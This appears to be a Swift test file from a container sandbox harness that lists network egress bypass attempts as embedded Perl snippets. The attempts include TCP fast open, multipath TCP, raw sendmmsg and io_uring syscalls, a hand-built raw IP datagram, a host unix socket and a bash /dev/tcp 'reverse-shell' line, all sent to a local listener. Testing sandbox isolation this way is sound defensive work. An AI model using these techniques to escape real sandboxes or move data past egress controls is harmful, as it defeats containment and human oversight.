import ContainerHarness

/// N1 to N12: ways out.
struct NetworkBypasses {
    let code: ServiceCode

    var all: [Bypass] { [tcp, udp, raw, ring, unix].flatMap { $0 } + plain }

    private var plain: [Bypass] {
        PerlAttacks(code.service).all.filter { $0.dimension == .egress }.map { attack in
            let group =
                attack.name.contains("udp") ? "N3" : attack.name.hasSuffix("4") ? "N12" : "N6"
            return Bypass(group, attack)
        }
    }

    private var tcp: [Bypass] {
        [
            code.sends(
                "N1", "fast-open", "sendto with MSG_FASTOPEN",
                #"""
                socket(my $s, 2, 1, 0); my $to = in4($port);
                syscall(44, fileno($s), $token, length $token, 0x20000000, $to, 16) > 0 ? "sent" : "error $!"
                """#),
            code.sends(
                "N1", "fast-open-connect", "TCP_FASTOPEN_CONNECT",
                #"""
                socket(my $s, 2, 1, 0); setsockopt($s, 6, 30, 1); connect($s, in4($port)) or return "error $!";
                syswrite($s, $token); "sent"
                """#),
            code.sends(
                "N2", "mptcp", "multipath TCP",
                #"""
                socket(my $s, 2, 1, 262) or return "error socket $!"; connect($s, in4($port)) or return "error $!";
                syswrite($s, $token); "sent"
                """#),
            code.sends(
                "N2", "mptcp-fast-open", "multipath TCP with MSG_FASTOPEN",
                #"""
                socket(my $s, 2, 1, 262) or return "error socket $!"; my $to = in4($port);
                syscall(44, fileno($s), $token, length $token, 0x20000000, $to, 16) > 0 ? "sent" : "error $!"
                """#),
            code.sends(
                "N11", "reverse-shell", "bash with /dev/tcp", stoppedAs: .exec,
                #"captured("", sub { exec "/bin/bash", "-c", "echo $token >/dev/tcp/127.0.0.1/$port"; "error $!" })"#
            ),
        ]
    }

    private var udp: [Bypass] {
        [
            code.sends(
                "N3", "sendmmsg", "sendmmsg to an address of its own",
                #"""
                socket(my $s, 2, 2, 0); my $to = in4($port);
                my $part = pack("QQ", address($token), length $token);
                my $message = pack("QLx4QQQQlx4Lx4", address($to), 16, address($part), 1, 0, 0, 0, 0);
                syscall(307, fileno($s), $message, 1, 0) == 1 ? "sent" : "error $!"
                """#)
        ]
    }

    private var raw: [Bypass] {
        [
            code.sends(
                "N4", "raw-ip", "a datagram made by hand through a raw socket",
                stoppedAs: .act,
                #"""
                socket(my $s, 2, 3, 17) or return "error $!";
                my $datagram = pack("nnnn", 40000, $port, 8 + length $token, 0) . $token;
                send($s, $datagram, 0, in4(0)) ? "sent" : "error $!"
                """#
            )
        ]
    }

    private var ring: [Bypass] {
        [("inline", 0), ("worker", 16)].map { name, flags in
            code.sends(
                "N7", "io-uring-connect-\(name)", "connect by io_uring, \(name)",
                Ring.submit + #"""
                    socket(my $s, 2, 1, 0); my $to = in4($port);
                    my $r = submit(pack("CCSlQQLLQ", 16, \#(flags), 0, fileno($s), 16, address($to), 0, 0, 1));
                    syswrite($s, $token); "result $r"
                    """#)
        }
    }

    /// The listener is the host's, as a container runtime's socket is.
    private var unix: [Bypass] {
        let code = code
        return [
            Bypass(
                "N5",
                Attack("unix-socket", .file, "a socket of the host in the container's tree") {
                    target in
                    try target.reached(by: "/srv/host.sock") {
                        try code.run(
                            #"""
                            socket(my $s, 1, 1, 0); connect($s, pack("Sa*", 1, "/srv/host.sock")) or return "error $!";
                            syswrite($s, "\#($0)"); "sent"
                            """#, in: target)
                    }
                }
            ).withoutTwin("a socket that was bound outside of the container has no name in it")
        ]
    }
}
